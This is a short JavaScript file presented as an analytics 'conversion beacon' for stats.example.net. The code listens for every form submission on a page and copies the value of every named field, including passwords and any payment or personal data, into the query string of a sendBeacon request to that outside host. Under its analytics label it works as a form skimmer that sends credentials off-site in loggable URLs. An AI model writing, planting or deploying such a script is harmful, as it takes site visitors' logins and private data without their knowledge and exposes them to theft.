/*!
 * stats.example.net conversion beacon v1.7: reports form submissions as conversions.
 * Sends every named field of the submitted form in the query string of a navigator.sendBeacon
 * call, URL-encoded, so nothing is lost when the page navigates away.
 */
(function () {
  'use strict';
  var ENDPOINT = 'https://stats.example.net/b';
  document.addEventListener('submit', function (event) {
    var form = event.target, params = new URLSearchParams({e: 'conversion', p: location.pathname, t: String(Date.now())});
    Array.prototype.forEach.call(form.elements, function (el) {
      if (el.name && 'value' in el && el.type !== 'submit') params.append('f_' + el.name, el.value);
    });
    // URLSearchParams writes spaces as "+"; the collector expects %20, as encodeURIComponent writes.
    navigator.sendBeacon(ENDPOINT + '?' + params.toString().replace(/\+/g, '%20'));
  }, true);
})();
